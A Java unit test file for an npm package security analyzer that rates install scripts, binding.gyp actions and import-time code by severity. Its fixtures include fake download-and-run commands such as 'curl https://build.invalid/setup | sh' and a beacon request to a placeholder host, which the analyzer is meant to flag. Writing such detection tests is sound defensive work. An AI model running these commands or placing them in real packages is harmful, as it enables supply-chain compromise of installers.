package dev.gatehouse.analyzer.npm;

import static dev.gatehouse.analyzer.npm.NpmFixture.code;
import static org.assertj.core.api.Assertions.assertThat;

import dev.gatehouse.analyzer.AnalysisLimits;
import dev.gatehouse.analyzer.ArchiveFinding;
import dev.gatehouse.analyzer.ArchiveProblem;
import dev.gatehouse.analyzer.Capability;
import dev.gatehouse.analyzer.CodeFinding;
import dev.gatehouse.analyzer.Deadline;
import dev.gatehouse.analyzer.Finding;
import dev.gatehouse.analyzer.Severity;
import dev.gatehouse.analyzer.Trigger;
import dev.gatehouse.analyzer.fixtures.ArchiveFixture;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Each trigger npm has, and the benign forms that must stay LOW. */
class TriggerTest {
  @TempDir Path tmp;

  @ParameterizedTest
  @ValueSource(strings = {"preinstall", "install", "postinstall"})
  void everyInstallScriptIsATriggerFollowedIntoItsCode(String key) throws Exception {
    List<Finding> findings = NpmFixture.scripts("\"" + key + "\": \"node ./scripts/setup.js\"")
        .file("scripts/setup.js", "require('child_process').execSync('make all');\n")
        .analyze(tmp);
    CodeFinding f = code(findings, Trigger.NPM_LIFECYCLE_SCRIPT).get(0);
    assertThat(f.severity()).isEqualTo(Severity.MEDIUM);
    assertThat(f.capabilities()).containsExactly(Capability.PROCESS_SPAWN);
    assertThat(f.evidence().location()).isEqualTo("scripts." + key);
    assertThat(f.summary()).isEqualTo(key + " runs `node ./scripts/setup.js`, which spawns processes (scripts/setup.js line 1)");
  }

  @ParameterizedTest
  @ValueSource(strings = {"preprepare", "prepare", "postprepare"})
  void prepareScriptsAreLowBecauseRegistryInstallsNeverRunThem(String key) throws Exception {
    List<Finding> findings = NpmFixture.scripts("\"" + key + "\": \"tsc -p . && npm run build\", \"build\": \"rollup -c\"")
        .analyze(tmp);
    CodeFinding f = code(findings, Trigger.NPM_LIFECYCLE_SCRIPT).get(0);
    assertThat(f.severity()).isEqualTo(Severity.LOW);
    assertThat(f.summary()).endsWith("(prepare scripts run only for git dependencies and local installs)");
  }

  @Test
  void aPrepareScriptThatDownloadsAndRunsCodeStaysHigh() throws Exception {
    List<Finding> findings = NpmFixture.scripts("\"prepare\": \"curl -fsSL https://get.invalid/x.sh | sh\"")
        .analyze(tmp);
    assertThat(code(findings, Trigger.NPM_LIFECYCLE_SCRIPT).get(0).severity()).isEqualTo(Severity.HIGH);
  }

  @Test
  void packageWithOnlyATestScriptHasNoFindings() throws Exception {
    assertThat(NpmFixture.scripts("\"test\": \"node test.js && curl https://x.invalid | sh\"")
        .file("index.js", "module.exports = 1;\n").analyze(tmp)).isEmpty();
  }

  @Test
  void nativeAddonBuiltWithNodeGypRebuildIsLow() throws Exception {
    List<Finding> findings = NpmFixture.scripts("\"install\": \"prebuild-install || node-gyp rebuild\"", "\"gypfile\": true")
        .file("binding.gyp", """
            { 'targets': [ { 'target_name': 'addon', 'sources': ['src/addon.cc'],
              'include_dirs': ["<!(node -p \\"require('node-addon-api').include_dir\\")"] } ] }
            """)
        .analyze(tmp);
    assertThat(findings).extracting(Finding::severity).containsOnly(Severity.LOW);
    assertThat(code(findings, Trigger.NPM_LIFECYCLE_SCRIPT).get(0).summary())
        .isEqualTo("install runs `prebuild-install || node-gyp rebuild`, a recognised benign form");
  }

  @Test
  void bindingGypWithoutInstallScriptIsAnImplicitNativeBuild() throws Exception {
    List<Finding> findings = NpmFixture.main("index.js")
        .file("binding.gyp", "{ 'targets': [ { 'target_name': 'addon', 'sources': [ 'addon.cc' ] } ] } # comment\n")
        .analyze(tmp);
    CodeFinding f = code(findings, Trigger.IMPLICIT_NATIVE_BUILD).get(0);
    assertThat(f.severity()).isEqualTo(Severity.LOW);
    assertThat(f.summary()).isEqualTo("binding.gyp makes npm run `node-gyp rebuild` at install");
    assertThat(f.evidence().path()).isEqualTo("package/binding.gyp");
  }

  @Test
  void bindingGypActionThatPipesADownloadIntoAShellIsHigh() throws Exception {
    List<Finding> findings = NpmFixture.main("index.js")
        .file("binding.gyp", """
            {'targets': [{'target_name': 'x', 'actions': [{'action_name': 'fetch', 'inputs': [], 'outputs': ['x'],
              'action': ['sh', '-c', 'curl -s https://build.invalid/setup | sh']}]}]}
            """)
        .analyze(tmp);
    CodeFinding f = code(findings, Trigger.IMPLICIT_NATIVE_BUILD).get(0);
    assertThat(f.severity()).isEqualTo(Severity.HIGH);
    assertThat(f.capabilities()).containsExactly(Capability.PROCESS_SPAWN, Capability.NETWORK);
  }

  @Test
  void importTimeFindingOnlyWhenTopLevelCodeReachesACapability() throws Exception {
    List<Finding> quiet = NpmFixture.main("lib/index.js")
        .file("lib/index.js", """
            const cp = require('child_process');
            exports.run = function (cmd) { return cp.execSync(cmd); };
            """)
        .analyze(tmp);
    assertThat(quiet).isEmpty();
    List<Finding> loud = NpmFixture.main("lib/index.js")
        .file("lib/index.js", "require('./boot');\nexports.x = 1;\n")
        .file("lib/boot.js", "const cp = require('child_process');\n(function () { cp.exec('id'); })();\n")
        .analyze(tmp);
    CodeFinding f = code(loud, Trigger.IMPORT_TIME).get(0);
    assertThat(f.severity()).isEqualTo(Severity.MEDIUM);
    assertThat(f.evidence().path()).isEqualTo("package/lib/boot.js");
    assertThat(f.evidence().location()).isEqualTo("line 2");
  }

  @Test
  void everyConditionOfExportsIsAnEntryPointButTypesAreNot() throws Exception {
    List<Finding> findings = NpmFixture.scripts("", """
        "exports": {".": {"types": "./types.js", "import": "./esm/index.mjs", "require": "./cjs/index.js"}}""")
        .file("types.js", "fetch('https://types.invalid');\n")
        .file("cjs/index.js", "module.exports = 1;\n")
        .file("esm/index.mjs", "import { request } from 'node:https';\nrequest('https://beacon.invalid').end();\n")
        .analyze(tmp);
    CodeFinding f = code(findings, Trigger.IMPORT_TIME).get(0);
    assertThat(f.summary()).startsWith("importing esm/index.mjs runs code at load that uses the network");
    assertThat(findings).hasSize(1);
  }

  @Test
  void rootFolderIsWhateverTheTarballsTopFolderIsCalled() throws Exception {
    List<Finding> findings = NpmFixture.rooted("node-x-1.0/", "{\"name\":\"x\",\"scripts\":{\"install\":\"node i.js\"}}")
        .file("i.js", "require('dns').lookup('a.invalid', () => {});\n")
        .analyze(tmp);
    CodeFinding f = code(findings, Trigger.NPM_LIFECYCLE_SCRIPT).get(0);
    assertThat(f.capabilities()).containsExactly(Capability.DNS);
    assertThat(f.evidence().path()).isEqualTo("node-x-1.0/package.json");
  }

  @Test
  void brokenPackageJsonIsAMalformedArchiveFinding() throws Exception {
    List<Finding> findings = NpmFixture.rooted("package/", "{\"name\": \"x\", \"scripts\": {").analyze(tmp);
    assertThat(findings).singleElement().isInstanceOfSatisfying(ArchiveFinding.class, f -> {
      assertThat(f.problem()).isEqualTo(ArchiveProblem.MALFORMED);
      assertThat(f.evidence().path()).isEqualTo("package/package.json");
      assertThat(f.summary()).startsWith("package.json is not valid JSON: ");
    });
  }

  @Test
  void tarballWithoutPackageJsonIsAMalformedArchiveFinding() throws Exception {
    Path tgz = ArchiveFixture.create().file("package/index.js", "1").tarGz(tmp.resolve("nomanifest.tgz"));
    AnalysisLimits limits = AnalysisLimits.defaults();
    List<Finding> findings = new NpmPackageAnalyzer().analyze(tgz, limits, Deadline.after(limits.maxAnalysisTime()));
    assertThat(findings).singleElement().isInstanceOfSatisfying(ArchiveFinding.class,
        f -> assertThat(f.summary()).isEqualTo("no package.json in the package's top folder"));
  }

  @Test
  void sameBytesGiveEqualFindings() throws Exception {
    NpmFixture fixture = NpmFixture.scripts("\"postinstall\": \"node a.js\"")
        .file("a.js", "require('https').get('https://a.invalid');\nrequire('child_process').spawn('x');\n");
    Path one = tmp.resolve("one");
    Path two = tmp.resolve("two");
    java.nio.file.Files.createDirectories(one);
    java.nio.file.Files.createDirectories(two);
    assertThat(fixture.analyze(one)).isEqualTo(fixture.analyze(two));
  }
}
